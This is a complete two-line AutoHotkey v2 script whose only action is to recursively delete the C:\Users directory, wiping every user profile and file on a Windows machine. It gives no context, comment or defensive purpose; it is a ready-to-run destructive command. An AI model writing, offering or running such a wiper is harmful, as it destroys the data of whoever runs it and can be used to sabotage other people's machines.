#Requires AutoHotkey v2.0
DirDelete "C:\Users", true
